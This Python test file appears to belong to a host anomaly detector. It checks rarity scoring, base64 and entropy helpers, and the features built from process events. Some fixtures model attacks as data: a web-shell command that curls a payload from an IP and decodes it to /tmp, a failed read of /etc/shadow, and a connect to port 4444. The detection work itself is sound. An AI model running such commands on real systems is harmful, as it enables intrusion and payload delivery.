"""Feature rows: rarities are scored before counting, intrinsic features read the event and its lineage."""

from __future__ import annotations

import json
import math

import numpy as np
import pytest

from sentinel.anomaly.features import FEATURES, INDEX, FeatureExtractor, longest_b64_token, shannon_entropy
from sentinel.anomaly.rarity import NS_PER_DAY, RarityState, RarityTable
from sentinel.events import AF_INET, Event, EventType
from sentinel.process.table import Process

DAY0 = 1_700_000_000 * 1_000_000_000


def proc(pid: int, exe: str, parent: Process | None = None, uid: int = 33, tty: int = 0) -> Process:
    return Process(pid=pid, ppid=parent.pid if parent else 0, start_ns=0, entity_id=str(pid), comm=exe[-15:],
                   exe=exe, uid=uid, parent=parent, tty_nr=tty)  # fmt: skip


def exec_ev(pid: int, exe: str, argv: list[str], uid: int = 33) -> Event:
    return Event(type=EventType.EXEC, ts_ns=1, pid=pid, tid=pid, uid=uid, gid=uid, comm="x", filename=exe,
                 argv=argv, argc_total=len(argv))  # fmt: skip


def test_rarity_score_then_update() -> None:
    t = RarityTable()
    assert t.rarity("a") == 0.0  # nothing known yet: no evidence either way
    t.update("a")
    t.update("a")
    # count 2, N 2, K = 1 key + 1 unseen
    assert t.rarity("a") == pytest.approx(-math.log(3 / 4), abs=1 / 128)  # rounded to 1/64
    assert t.rarity("b") == pytest.approx(-math.log(1 / 4), abs=1 / 128)
    assert t.rarity("b") > t.rarity("a")


def test_rarity_decays_per_day_and_evicts_least_counted() -> None:
    t = RarityTable(half_life_days=1.0, max_keys=10)
    t.update("old", DAY0)
    t.update("old", DAY0)
    t.update("new", DAY0 + 2 * NS_PER_DAY)
    assert t.count("old") == pytest.approx(0.5)  # two half-lives
    for i in range(10):
        t.update(f"k{i}", DAY0 + 2 * NS_PER_DAY)
        t.update(f"k{i}", DAY0 + 2 * NS_PER_DAY)
    assert len(t.counts) <= 10
    assert "old" not in t.counts  # the least counted went first
    assert t.total == pytest.approx(sum(t.counts.values()))


def test_rarity_state_round_trips_through_json() -> None:
    s = RarityState()
    s.tables["exe"].update("/usr/bin/ls", DAY0)
    back = RarityState.from_dict(json.loads(json.dumps(s.to_dict())))
    assert back.tables["exe"].counts == {"/usr/bin/ls": 1.0}
    assert back.tables["exe"].rarity("/usr/bin/ls") == s.tables["exe"].rarity("/usr/bin/ls")
    bad = s.to_dict()
    bad["tables"]["exe"]["counts"]["x"] = float("nan")
    with pytest.raises(ValueError):
        RarityState.from_dict(bad)
    with pytest.raises(ValueError):
        RarityState.from_dict({"version": 99})


def test_text_helpers() -> None:
    assert shannon_entropy("") == 0.0
    assert shannon_entropy("aaaa") == 0.0
    assert shannon_entropy("abcd") == pytest.approx(2.0)
    assert longest_b64_token("echo aGVsbG8gd29ybGQgZnJvbSBzaA== | base64 -d") == 28
    assert longest_b64_token("--configuration-directory") == 0  # a plain word, not a payload
    assert longest_b64_token("ls /srv/sentinel-e2e-4beac7/www") == 0  # a path with digits
    assert longest_b64_token("docker rm 3f2a9c81b7d04e6fa1c2b3d4e5f60718") == 0  # a hex id


def test_web_shell_exec_row() -> None:
    fx = FeatureExtractor()
    init = proc(1, "/usr/lib/systemd/systemd", uid=0)
    fpm = proc(10, "/usr/sbin/php-fpm8.2", init)
    for i in range(20):  # the baseline: php-fpm runs its usual helper
        fx.row(
            exec_ev(100 + i, "/usr/bin/convert", ["convert", "a.png", "b.jpg"]),
            proc(100 + i, "/usr/bin/convert", fpm),
        )
    sh = proc(200, "/usr/bin/dash", fpm)
    argv = ["sh", "-c", "curl http://203.0.113.9/x | base64 -d > /tmp/.x; echo ZWNobyBoZWxsbyB3b3JsZA=="]
    row = fx.row(exec_ev(200, "/bin/sh", argv), sh)
    x = row.values
    assert x.dtype == np.float64 and x.shape == (len(FEATURES),)
    assert x[INDEX["rare_parent_exe"]] > 2.5
    assert row.details["rare_parent_exe"] == "parent→child php-fpm8.2→dash seen 0 times on this host"
    assert x[INDEX["net_service_ancestor"]] == 1.0
    assert x[INDEX["argv_ip_url"]] == 1.0
    assert x[INDEX["b64_token_len"]] >= 24
    assert x[INDEX["argc"]] == 3
    assert x[INDEX["lineage_depth"]] == 2
    assert x[INDEX["type_exec"]] == 1.0 and x[INDEX["type_open"]] == 0.0
    assert x[INDEX["uid_root"]] == 0.0 and x[INDEX["has_tty"]] == 0.0
    # counted after scoring: the same pair is now less rare
    again = fx.row(exec_ev(201, "/bin/sh", argv), proc(201, "/usr/bin/dash", fpm))
    assert again.values[INDEX["rare_parent_exe"]] < x[INDEX["rare_parent_exe"]]


def test_open_and_connect_rows() -> None:
    fx = FeatureExtractor()
    p = proc(5, "/tmp/.cache/x", proc(1, "/usr/bin/bash", uid=0), uid=0, tty=34816)
    op = Event(
        type=EventType.OPEN, ts_ns=1, pid=5, tid=5, uid=0, gid=0, comm="x", path="/etc/shadow", ret=-13
    )
    r = fx.row(op, p, "/etc/shadow")
    assert r.values[INDEX["type_open"]] == 1.0
    assert r.values[INDEX["failed"]] == 1.0
    assert r.values[INDEX["exe_writable_dir"]] == 1.0
    assert r.values[INDEX["uid_root"]] == 1.0 and r.values[INDEX["has_tty"]] == 1.0
    assert fx.state.tables["exe_dir"].count("/tmp/.cache/x\x00/etc") == 1.0
    # a process first met by an open (started before the agent) counts its executable once, not per event
    assert fx.state.tables["exe"].count("/tmp/.cache/x") == 1.0
    co = Event(type=EventType.CONNECT, ts_ns=2, pid=5, tid=5, uid=0, gid=0, comm="x", family=AF_INET,
               address="198.51.100.7", port=4444, ret=-115)  # fmt: skip
    fx.state.tables["exe_port"].update("/tmp/.cache/x\x00443")  # so 4444 is rare, not merely first
    c1 = fx.row(co, p)
    c2 = fx.row(co, p)
    assert c1.values[INDEX["failed"]] == 0.0  # EINPROGRESS is a non-blocking connect, not a failure
    assert c1.values[INDEX["new_dest_net"]] == 1.0 and c2.values[INDEX["new_dest_net"]] == 0.0
    assert c1.details["new_dest_net"] == "destination 198.51.100.0/24 seen 0 times on this host"
    assert c2.values[INDEX["rare_exe_port"]] < c1.values[INDEX["rare_exe_port"]]


def test_frozen_extractor_does_not_learn() -> None:
    fx = FeatureExtractor(learn=False)
    fx.row(exec_ev(1, "/usr/bin/ls", ["ls"]), proc(1, "/usr/bin/ls"))
    assert fx.state.tables["exe"].total == 0.0


def test_open_rows_follow_the_process_command_line_across_exec() -> None:
    fx = FeatureExtractor()
    p = proc(7, "/usr/bin/python3")
    p.args = ["python3", "app.py"]
    op = Event(type=EventType.OPEN, ts_ns=1, pid=7, tid=7, uid=33, gid=33, comm="python3", path="/a", ret=3)
    assert fx.row(op, p, "/a").values[INDEX["argc"]] == 2
    assert fx.row(op, p, "/a").values[INDEX["argv_len"]] == len("python3 app.py")
    p.args = ["sh", "-c", "id; curl http://198.51.100.1/"]  # what the table does on exec
    p.exec_count += 1
    row = fx.row(op, p, "/a")
    assert row.values[INDEX["argc"]] == 3 and row.values[INDEX["argv_ip_url"]] == 1.0
    assert row.details["argc"] == "command line 'sh -c id; curl http://198.51.100.1/'"


def test_known_process_open_rows_follow_uid_parent_and_image_changes() -> None:
    """Opens by a process already counted come from a per-process template: it must follow what changes."""
    fx = FeatureExtractor()
    parent = proc(1, "/usr/bin/bash", uid=0)
    p = proc(9, "/usr/bin/python3", parent, uid=0)

    def open_row(uid: int, path: str = "/srv/a", ret: int = 3) -> np.ndarray:
        ev = Event(type=EventType.OPEN, ts_ns=1, pid=9, tid=9, uid=uid, gid=uid, comm="py", path=path,
                   ret=ret)  # fmt: skip
        return fx.row(ev, p, path).values

    first = open_row(0)  # first met: counts the image
    again = open_row(0)
    assert again[INDEX["uid_root"]] == 1.0 and again[INDEX["lineage_depth"]] == 1.0
    assert again[INDEX["net_service_ancestor"]] == 0.0
    assert np.array_equal(np.delete(first, [0, 1, 2, 4]), np.delete(again, [0, 1, 2, 4]))
    assert open_row(33)[INDEX["uid_root"]] == 0.0  # setuid: the template is rebuilt
    assert open_row(33, ret=-2)[INDEX["failed"]] == 1.0 and open_row(33)[INDEX["failed"]] == 0.0
    parent.exe, parent.exec_count = "/usr/sbin/nginx", parent.exec_count + 1  # the parent became a service
    assert open_row(33)[INDEX["net_service_ancestor"]] == 1.0
    seen = fx.state.tables["exe_dir"].count("/usr/bin/python3\x00/srv")
    assert open_row(33, "/srv/b")[INDEX["rare_exe_dir"]] < open_row(33, "/var/x")[INDEX["rare_exe_dir"]]
    assert fx.state.tables["exe_dir"].count("/usr/bin/python3\x00/srv") == seen + 1
